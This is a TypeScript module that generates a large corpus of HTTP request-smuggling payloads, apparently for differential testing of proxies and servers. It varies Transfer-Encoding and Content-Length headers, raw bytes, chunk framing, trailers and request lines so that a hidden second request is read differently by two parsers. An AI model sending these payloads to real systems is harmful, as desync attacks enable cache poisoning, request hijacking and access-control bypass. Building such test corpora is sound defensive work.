/**
 * The smuggling corpus. Each mutation is one message with a second request hidden in what one reader takes for its body and another for the next request:
 * both readers find all the bytes that they wait for, so that nothing hangs whichever is right.
 */

export interface Mutation {
  /** The group and what is special, for instance `te-byte: 0x0b before the value`. */
  readonly name: string;
  readonly group: string;
  readonly bytes: Buffer;
}

/** Targets of the visible and of the hidden request. {@link numbered} makes them unique without changing a length. */
const OUTER_TARGET = "/outer";
const SMUGGLED_TARGET = "/smuggled";
const HOST = "front.example";
const SMUGGLED = `GET ${SMUGGLED_TARGET} HTTP/1.1\r\nHost: ${HOST}\r\n\r\n`;

/** All mutations. Names are unique. */
export function smugglingCorpus(): Mutation[] {
  return [
    ...codingBytes(),
    ...codingValues(),
    ...codingLines(),
    ...lengthValues(),
    ...lengthBytes(),
    ...chunkSizes(),
    ...chunkBytes(),
    ...chunkEnds(),
    ...trailers(),
    ...requestLines(),
    ...fieldLines(),
    ...connectionOptions(),
  ];
}

/** The targets of the mutation with that number. */
export function targetsOf(index: number): { readonly outer: string; readonly smuggled: string } {
  return {
    outer: `/o${index.toString(36).padStart(OUTER_TARGET.length - 2, "0")}`,
    smuggled: `/s${index.toString(36).padStart(SMUGGLED_TARGET.length - 2, "0")}`,
  };
}

/** The bytes of a mutation, with targets that belong to its number alone. */
export function numbered({ bytes }: Mutation, index: number): Buffer {
  const { outer, smuggled } = targetsOf(index);
  const text = bytes.toString("latin1").replaceAll(OUTER_TARGET, outer).replaceAll(SMUGGLED_TARGET, smuggled);
  return Buffer.from(text, "latin1");
}

/** A message in which Content-Length covers all that follows, and a reader of chunks finds an end before the hidden request. */
function lengthAgainstChunks(fields: string, line = "POST /outer HTTP/1.1"): Buffer {
  const body = `0\r\n\r\n${SMUGGLED}`;
  return latin1(`${line}\r\nHost: ${HOST}\r\nContent-Length: ${body.length}\r\n${fields}\r\n${body}`);
}

/** A message whose chunks cover all that follows, and whose Content-Length ends before the hidden request. */
function chunksAgainstLength(fields: string): Buffer {
  const size = `${SMUGGLED.length.toString(16)}\r\n`;
  const body = `${size}${SMUGGLED}\r\n0\r\n\r\n`;
  return latin1(`POST /outer HTTP/1.1\r\nHost: ${HOST}\r\nContent-Length: ${size.length}\r\n${fields}\r\n${body}`);
}

/** A message of chunks alone, with the hidden request in the first: who does not read chunks has no length for it. */
function chunksAlone(fields: string): Buffer {
  const body = `${SMUGGLED.length.toString(16)}\r\n${SMUGGLED}\r\n0\r\n\r\n`;
  return latin1(`POST /outer HTTP/1.1\r\nHost: ${HOST}\r\n${fields}\r\n${body}`);
}

/** A message whose body is the hidden request for whoever reads `fields` as its length, and empty for others. */
function hiddenBy(fields: string, line = "POST /outer HTTP/1.1"): Buffer {
  return latin1(`${line}\r\nHost: ${HOST}\r\n${fields}\r\n${SMUGGLED}`);
}

/** A chunked message whose first size line is `line`: who reads another number in it finds the hidden request elsewhere. */
function hiddenInChunk(line: string, inner = `\r\n${SMUGGLED}`): Buffer {
  return latin1(
    `POST /outer HTTP/1.1\r\nHost: ${HOST}\r\nTransfer-Encoding: chunked\r\n\r\n${line}${inner}\r\n0\r\n\r\n`,
  );
}

/** The size that `hiddenInChunk` has by default, in hexadecimal. */
const INNER_SIZE = (SMUGGLED.length + 2).toString(16);

/** Every byte at every place of the Transfer-Encoding line. */
function codingBytes(): Mutation[] {
  const places: [string, (byte: string) => string][] = [
    ["before the name", (byte) => `${byte}Transfer-Encoding: chunked\r\n`],
    ["in the name", (byte) => `Transfer${byte}Encoding: chunked\r\n`],
    ["behind the name", (byte) => `Transfer-Encoding${byte}: chunked\r\n`],
    ["before the value", (byte) => `Transfer-Encoding:${byte}chunked\r\n`],
    ["in the value", (byte) => `Transfer-Encoding: chun${byte}ked\r\n`],
    ["behind the value", (byte) => `Transfer-Encoding: chunked${byte}\r\n`],
    ["behind the line end", (byte) => `Transfer-Encoding: chunked\r\n${byte}X: y\r\n`],
    ["before the line, behind a field", (byte) => `X: y${byte}Transfer-Encoding: chunked\r\n`],
  ];
  return places.flatMap(([place, line]) =>
    everyByte().flatMap(([name, byte]) => [
      mutation("te-byte", `${name} ${place}, length first`, lengthAgainstChunks(line(byte))),
      mutation("te-byte", `${name} ${place}, chunks first`, chunksAgainstLength(line(byte))),
      mutation("te-byte", `${name} ${place}, chunks alone`, chunksAlone(line(byte))),
    ]),
  );
}

function codingValues(): Mutation[] {
  const values = [
    "chunked",
    "Chunked",
    "CHUNKED",
    "chunKed",
    "xchunked",
    "chunkedx",
    "chunked,",
    ",chunked",
    " , chunked",
    "chunked, chunked",
    "identity",
    "identity, chunked",
    "chunked, identity",
    "gzip, chunked",
    "chunked, gzip",
    "gzip",
    "deflate, chunked",
    "cow",
    "cow, chunked",
    "chunked, cow",
    '"chunked"',
    "'chunked'",
    "chunked;",
    "chunked;q=1",
    "chunked; q=0",
    "chunked foo",
    "foo chunked",
    "chunk",
    "chunked\tchunked",
    "",
    " ",
    "\t",
    "chunked\0",
    "\0chunked",
    "cHuNkEd ",
    "\u00A0chunked",
    "chunk\u00e9d",
    "tr, chunked",
    "trailers",
    "chunked\r\n\tfoo",
    "\r\n chunked",
    "\r\n\tchunked",
    "\n chunked",
    "chunked\n",
    "chunked\r",
    "\rchunked",
    "\x0bchunked",
    "chunked\x0b",
    "\x0cchunked",
    "chunked\x0c",
    "7",
    "0",
    "true",
    "none",
    "chunked, 0",
    "x-chunked",
    "chunked/1",
    "{chunked}",
    "<chunked>",
    "(chunked)",
    "chunked#",
    "chunked%00",
    "%63hunked",
    "\\chunked",
  ];
  return values.flatMap((value) => [
    mutation("te-value", `${quote(value)}, length first`, lengthAgainstChunks(`Transfer-Encoding: ${value}\r\n`)),
    mutation("te-value", `${quote(value)}, chunks first`, chunksAgainstLength(`Transfer-Encoding: ${value}\r\n`)),
    mutation("te-value", `${quote(value)}, chunks alone`, chunksAlone(`Transfer-Encoding: ${value}\r\n`)),
    mutation("te-value", `${quote(value)}, no length`, hiddenBy(`Transfer-Encoding: ${value}\r\n`)),
    mutation(
      "te-value",
      `${quote(value)}, no length, HTTP/1.0`,
      hiddenBy(`Transfer-Encoding: ${value}\r\n`, "POST /outer HTTP/1.0"),
    ),
  ]);
}

/** Several lines, and names that some reader may take for the one. */
function codingLines(): Mutation[] {
  const lines = [
    "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n",
    "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked\r\n",
    "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n",
    "Transfer-Encoding: chunked\r\nTransfer-Encoding: cow\r\n",
    "Transfer-Encoding: cow\r\nTransfer-Encoding: chunked\r\n",
    "Transfer-Encoding:\r\nTransfer-Encoding: chunked\r\n",
    "Transfer-Encoding: chunked\r\nTransfer-encoding:\r\n",
    "Transfer_Encoding: chunked\r\n",
    "Transfer Encoding: chunked\r\n",
    "TransferEncoding: chunked\r\n",
    "Transfer-Encodin: chunked\r\n",
    "Transfer-Encoding2: chunked\r\n",
    "X-Transfer-Encoding: chunked\r\n",
    "Content-Encoding: chunked\r\n",
    "TRANSFER-ENCODING: chunked\r\n",
    "tRANSFER-eNCODING: chunked\r\n",
    "Transfer-Encoding : chunked\r\n",
    "Transfer-Encoding\t: chunked\r\n",
    "Transfer-Encoding\r\n: chunked\r\n",
    "Transfer-Encoding:chunked\r\n",
    "Transfer-Encoding:\tchunked\r\n",
    " Transfer-Encoding: chunked\r\n",
    "X: y\r\n Transfer-Encoding: chunked\r\n",
    "X: y\r\n\tTransfer-Encoding: chunked\r\n",
    "X: y\nTransfer-Encoding: chunked\r\n",
    "X: y\rTransfer-Encoding: chunked\r\n",
    "X: y\n\rTransfer-Encoding: chunked\r\n",
    "X: y\0\r\nTransfer-Encoding: chunked\r\n",
    "X\r\nTransfer-Encoding: chunked\r\n",
    ": y\r\nTransfer-Encoding: chunked\r\n",
    "Transfer-Encoding: chunked\n",
    "Transfer-Encoding: chunked\nX: y\r\n",
    "Transfer-Encoding; chunked\r\n",
    "Transfer-Encoding= chunked\r\n",
    "Transfer-Encoding chunked\r\n",
    "\u00a0Transfer-Encoding: chunked\r\n",
    "\ufeffTransfer-Encoding: chunked\r\n",
    "TE: chunked\r\n",
    "Trailer: Content-Length\r\nTransfer-Encoding: chunked\r\n",
    "Content-Length: 0\r\nTransfer-Encoding: chunked\r\n",
    "Upgrade: websocket\r\nConnection: Upgrade\r\nTransfer-Encoding: chunked\r\n",
    "Expect: 100-continue\r\nTransfer-Encoding: chunked\r\n",
  ];
  return lines.flatMap((line) => [
    mutation("te-line", `${quote(line)}, length first`, lengthAgainstChunks(line)),
    mutation("te-line", `${quote(line)}, chunks first`, chunksAgainstLength(line)),
    mutation("te-line", `${quote(line)}, chunks alone`, chunksAlone(line)),
  ]);
}

function lengthValues(): Mutation[] {
  const size = String(SMUGGLED.length);
  const hex = SMUGGLED.length.toString(16);
  const values = [
    size,
    `+${size}`,
    `-${size}`,
    `0${size}`,
    `000000000${size}`,
    `0x${hex}`,
    `0X${hex}`,
    `0o${SMUGGLED.length.toString(8)}`,
    `${size}.0`,
    `${size}e0`,
    `${size},${size}`,
    `${size}, ${size}`,
    `${size}, 0`,
    `0, ${size}`,
    `,${size}`,
    `${size},`,
    `${size} `,
    ` ${size}`,
    `\t${size}`,
    `${size}\t`,
    `${size} 0`,
    `0 ${size}`,
    `${size[0]} ${size.slice(1)}`,
    `${size};0`,
    `"${size}"`,
    `'${size}'`,
    `${size}\0`,
    `\0${size}`,
    `${size}\x0b`,
    `\x0b${size}`,
    `${size}\x0c`,
    `${size}a`,
    `a${size}`,
    `${size}_0`,
    `${size[0]}_${size.slice(1)}`,
    `${size}\r`,
    `\r${size}`,
    `${size}\n`,
    `\n${size}`,
    `\r\n ${size}`,
    `${size}\r\n 0`,
    `${size}\r\n\t`,
    "",
    " ",
    "-0",
    "+0",
    "-1",
    "0x0",
    "NaN",
    "null",
    "chunked",
    `\u00a0${size}`,
    `${size}\u00a0`,
    `\u0661\u0662`,
    `18446744073709551${"616"}`,
    `1844674407370955${1616 + SMUGGLED.length}`,
    `4294967${296 + SMUGGLED.length}`,
    "9007199254740993",
    "99999999999999999999999999",
    `${size}%00`,
    `%3${size}`,
    `${size}#`,
    `(${size})`,
    `${size}/1`,
    `1e2`,
    `${hex}h`,
    `${size}L`,
    `${size}n`,
  ];
  return values.flatMap((value) => [
    mutation("cl-value", quote(value), hiddenBy(`Content-Length: ${value}\r\n`)),
    mutation("cl-value", `${quote(value)} behind 0`, hiddenBy(`Content-Length: 0\r\nContent-Length: ${value}\r\n`)),
    mutation("cl-value", `${quote(value)} before 0`, hiddenBy(`Content-Length: ${value}\r\nContent-Length: 0\r\n`)),
    mutation("cl-value", `${quote(value)} with GET`, hiddenBy(`Content-Length: ${value}\r\n`, "GET /outer HTTP/1.1")),
    mutation(
      "cl-value",
      `${quote(value)} with HTTP/1.0`,
      hiddenBy(`Connection: keep-alive\r\nContent-Length: ${value}\r\n`, "POST /outer HTTP/1.0"),
    ),
  ]);
}

function lengthBytes(): Mutation[] {
  const size = SMUGGLED.length;
  const places: [string, (byte: string) => string][] = [
    ["before the name", (byte) => `${byte}Content-Length: ${size}\r\n`],
    ["in the name", (byte) => `Content${byte}Length: ${size}\r\n`],
    ["behind the name", (byte) => `Content-Length${byte}: ${size}\r\n`],
    ["before the value", (byte) => `Content-Length:${byte}${size}\r\n`],
    ["behind the value", (byte) => `Content-Length: ${size}${byte}\r\n`],
    ["before the line, behind a field", (byte) => `X: y${byte}Content-Length: ${size}\r\n`],
  ];
  return places.flatMap(([place, line]) =>
    everyByte().map(([name, byte]) => mutation("cl-byte", `${name} ${place}`, hiddenBy(line(byte)))),
  );
}

function chunkSizes(): Mutation[] {
  const size = INNER_SIZE;
  const lines = [
    `${size}`,
    `0x${size}`,
    `0X${size}`,
    `+${size}`,
    `-${size}`,
    `0${size}`,
    `0000000000000000000000${size}`,
    `${size} `,
    ` ${size}`,
    `\t${size}`,
    `${size}\t`,
    `${size}h`,
    `${size}g`,
    `${size}.0`,
    `${size},`,
    `${size};`,
    `${size};a`,
    `${size};a=b`,
    `${size};a="b"`,
    `${size};a="b`,
    `${size};a="\r"`,
    `${size};a="\n"`,
    `${size};a=\n`,
    `${size};a\n`,
    `${size};\n`,
    `${size};a\r`,
    `${size};a\0`,
    `${size} ;a`,
    `${size}; a`,
    `${size};=b`,
    `${size};a=`,
    `${size};;`,
    `${size};a;b=c`,
    `${size};a b`,
    `${size};a="\\"`,
    `${size};a="\\""`,
    `${size};\u00e9`,
    `${size};a=\u00e9`,
    `${size}_0`,
    `${size[0]}_${size.slice(1)}`,
    `${size} 0`,
    `"${size}"`,
    `1${"0".repeat(15)}${size}`,
    `1${"0".repeat(16)}${size}`,
    `1${"0".repeat(7)}${size}`,
    `ffffffffffffffff`,
    `-1`,
    `0${size};0`,
    `${size}\0`,
    `\0${size}`,
    `${size}\x0b`,
    `\x0b${size}`,
    `${size}#`,
    `%3${size}`,
    `\\x${size}`,
    "",
    ";",
    "0;",
    "0;a",
    "0 ",
    " 0",
    "00",
    "-0",
    "+0",
    "0x0",
    "0;\n",
    "0\0",
    "g",
    "x",
    "\u0664",
    `${size}\r\r`,
    `${size}\n`,
    `${size}\r`,
  ];
  return lines.map((line) => mutation("chunk-size", quote(line), hiddenInChunk(`${line}\r\n`)));
}

function chunkBytes(): Mutation[] {
  const places: [string, (byte: string) => string][] = [
    ["before the size", (byte) => `${byte}${INNER_SIZE}\r\n`],
    ["behind the size", (byte) => `${INNER_SIZE}${byte}\r\n`],
    ["in an extension", (byte) => `${INNER_SIZE};a${byte}b\r\n`],
    ["in a quoted extension", (byte) => `${INNER_SIZE};a="${byte}"\r\n`],
  ];
  return places.flatMap(([place, line]) =>
    everyByte().map(([name, byte]) => mutation("chunk-byte", `${name} ${place}`, hiddenInChunk(line(byte)))),
  );
}

/** Line ends of a size, of data and of the last chunk. */
function chunkEnds(): Mutation[] {
  const ends = [
    "\n",
    "\r",
    "\r\r\n",
    "\n\r",
    "\r\n\n",
    "\n\n",
    "",
    "\0\r\n",
    " \r\n",
    "XX",
    "\r\nXX",
    "\rX",
    "X\n",
    "\u0085",
    "\r\n\r\n",
  ];
  const head = `POST /outer HTTP/1.1\r\nHost: ${HOST}\r\nTransfer-Encoding: chunked\r\n\r\n`;
  return ends.flatMap((end) => [
    mutation("chunk-end", `${quote(end)} behind the size`, hiddenInChunk(`${INNER_SIZE}${end}`)),
    mutation("chunk-end", `${quote(end)} behind the data`, latin1(`${head}3\r\nabc${end}0\r\n\r\n${SMUGGLED}`)),
    mutation("chunk-end", `${quote(end)} behind the last size`, latin1(`${head}3\r\nabc\r\n0${end}\r\n${SMUGGLED}`)),
    mutation("chunk-end", `${quote(end)} behind the last chunk`, latin1(`${head}3\r\nabc\r\n0\r\n${end}${SMUGGLED}`)),
    mutation("chunk-end", `${quote(end)} behind an extension`, hiddenInChunk(`${INNER_SIZE};a${end}`)),
  ]);
}

function trailers(): Mutation[] {
  const lines = [
    "X: y\r\n",
    "Content-Length: 40\r\n",
    "Transfer-Encoding: chunked\r\n",
    "Host: other\r\n",
    "X: y\n",
    "X: y\r",
    " X: y\r\n",
    "X : y\r\n",
    "X\r\n",
    ": y\r\n",
    "X: y\r\n z\r\n",
    "X: \0\r\n",
    "X: y\n\n",
    "\n",
    "GET /x HTTP/1.1\r\n",
    "X: y\r\n\n",
  ];
  const head = `POST /outer HTTP/1.1\r\nHost: ${HOST}\r\nTransfer-Encoding: chunked\r\n\r\n`;
  return lines.map((line) =>
    mutation("trailer", quote(line), latin1(`${head}3\r\nabc\r\n0\r\n${line}\r\n${SMUGGLED}`)),
  );
}

function requestLines(): Mutation[] {
  const lines = [
    "GET /outer HTTP/1.1",
    "HEAD /outer HTTP/1.1",
    "OPTIONS /outer HTTP/1.1",
    "DELETE /outer HTTP/1.1",
    "TRACE /outer HTTP/1.1",
    "CONNECT front.example:80 HTTP/1.1",
    "PRI * HTTP/2.0",
    "POST /outer HTTP/1.0",
    "POST /outer HTTP/0.9",
    "POST /outer HTTP/1.2",
    "POST /outer HTTP/1.10",
    "POST /outer HTTP/01.1",
    "POST /outer HTTP/2.0",
    "POST /outer http/1.1",
    "POST /outer HTTP/1.1 ",
    "POST /outer  HTTP/1.1",
    "POST  /outer HTTP/1.1",
    " POST /outer HTTP/1.1",
    "POST\t/outer\tHTTP/1.1",
    "POST /outer",
    "POST /outer HTTP/",
    "POST /outer HTTP/1.1\0",
    "POST /out\0er HTTP/1.1",
    "POST /out er HTTP/1.1",
    "POST /outer\x0bHTTP/1.1",
    "POST http://front.example/outer HTTP/1.1",
    "POST http://other.example/outer HTTP/1.1",
    "POST //other.example/outer HTTP/1.1",
    "POST /outer#a HTTP/1.1",
    "POST /outer?a=\u00e9 HTTP/1.1",
    "P\u00d6ST /outer HTTP/1.1",
    "post /outer HTTP/1.1",
    "POST /outer HTTP/1.1\r",
    "POST /outer HTTP/1.1\n",
    "\r\nPOST /outer HTTP/1.1",
    "\nPOST /outer HTTP/1.1",
    "\rPOST /outer HTTP/1.1",
    "POST /outer HTTP/1,1",
    "POST /outer HTTP/1.1.1",
    "POST /outer HTTPS/1.1",
    "POST * HTTP/1.1",
    "POST outer HTTP/1.1",
  ];
  return lines.flatMap((line) => [
    mutation("request-line", `${quote(line)} with a length`, hiddenBy(`Content-Length: ${SMUGGLED.length}\r\n`, line)),
    mutation("request-line", `${quote(line)} with both`, lengthAgainstChunks("Transfer-Encoding: chunked\r\n", line)),
    mutation("request-line", `${quote(line)} with chunks`, hiddenBy("Transfer-Encoding: chunked\r\n", line)),
  ]);
}

/** Field lines beside a length that is right: who ends the head elsewhere reads another body. */
function fieldLines(): Mutation[] {
  const length = `Content-Length: ${SMUGGLED.length}\r\n`;
  const lines = [
    "X: y\n\n",
    "X: y\r\r",
    "X: y\n\r\n",
    "X: y\r\n\n",
    "X: y\r\n\r",
    "\n",
    "\r",
    "X\n\n: y\r\n",
    "X: \0\r\n",
    "X\0: y\r\n",
    "X: y\r\n \r\n",
    "X: y\r\n\t\r\n",
    "X: y\r\n  z\r\n",
    "Host: other.example\r\n",
    "Host : other.example\r\n",
    " Host: other.example\r\n",
    "Host:\r\n",
    "X Y: z\r\n",
    "X: y\x7f\r\n",
    "X: \u00ff\r\n",
    `X: ${"y".repeat(9000)}\r\n`,
    `${"X".repeat(9000)}: y\r\n`,
    `${"X: y\r\n".repeat(150)}`,
    "@: y\r\n",
    "X[]: y\r\n",
    "\x01: y\r\n",
    "X:: y\r\n",
    ":\r\n",
    "GET / HTTP/1.1\r\n",
    "X-A: 1\r\nX-a: 2\r\n",
  ];
  return lines.flatMap((line) => [
    mutation("field-line", `${quote(line)} before the length`, hiddenBy(`${line}${length}`)),
    mutation("field-line", `${quote(line)} behind the length`, hiddenBy(`${length}${line}`)),
  ]);
}

/** Fields that a proxy acts on by itself, or drops for its peer. */
function connectionOptions(): Mutation[] {
  const lines = [
    "Connection: content-length\r\n",
    "Connection: close, content-length\r\n",
    "Connection: transfer-encoding\r\n",
    "Connection: host\r\n",
    "Connection: keep-alive, Content-Length\r\n",
    "Connection: x\r\nConnection: content-length\r\n",
    "Keep-Alive: content-length\r\n",
    "Proxy-Connection: content-length\r\n",
    "Connection: Upgrade\r\nUpgrade: websocket\r\n",
    "Connection: Upgrade\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA\r\n",
    "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 777\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n",
    "Expect: 100-continue\r\n",
    "Expect: 100-continue, x\r\n",
    "Expect: x\r\n",
    "Expect:\r\n 100-continue\r\n",
    "Expect: 100-continue\r\nExpect: 100-continue\r\n",
    "TE: trailers\r\n",
    "Trailer: Content-Length\r\n",
    "Content-Type: message/http\r\n",
    "X-HTTP-Method-Override: GET\r\n",
    "Max-Forwards: 0\r\n",
    "Content-Range: bytes 0-0/1\r\n",
    "Via: 1.1 x\r\n",
    "Connection: close\r\n",
  ];
  const length = `Content-Length: ${SMUGGLED.length}\r\n`;
  return lines.flatMap((line) => [
    mutation("connection", `${quote(line)} with a length`, hiddenBy(`${length}${line}`)),
    mutation("connection", `${quote(line)} with GET`, hiddenBy(`${line}${length}`, "GET /outer HTTP/1.1")),
    mutation("connection", `${quote(line)} with both`, lengthAgainstChunks(`${line}Transfer-Encoding: chunked\r\n`)),
    mutation(
      "connection",
      `${quote(line)} with both, chunks first`,
      chunksAgainstLength(`${line}Transfer-Encoding: chunked\r\n`),
    ),
  ]);
}

/** 0x00 to 0xff, and the pairs that readers of lines have fallen for. */
function everyByte(): [string, string][] {
  const single = Array.from({ length: 256 }, (_, code): [string, string] => [
    `0x${code.toString(16).padStart(2, "0")}`,
    String.fromCharCode(code),
  ]);
  const pairs = ["\r\n", "\n\r", "\r\r", "\n\n", "\r\n ", "\r\n\t", "\n ", "\r ", " \t", "\0\r\n", "\r\0"];
  return [...single, ...pairs.map((pair): [string, string] => [quote(pair), pair])];
}

function mutation(group: string, what: string, bytes: Buffer): Mutation {
  return { group, name: `${group}: ${what}`, bytes };
}

/** Code points beyond one byte go as UTF-8, as they would from a keyboard. */
function latin1(text: string): Buffer {
  return /[\u0100-\uffff]/.test(text) ? Buffer.from(text, "utf8") : Buffer.from(text, "latin1");
}

function quote(text: string): string {
  const shown = JSON.stringify(text).replace(
    /[\u007f-\uffff]/g,
    (one) => `\\u${one.charCodeAt(0).toString(16).padStart(4, "0")}`,
  );
  return shown.length <= 80 ? shown : `${shown.slice(0, 60)}… (${text.length})`;
}
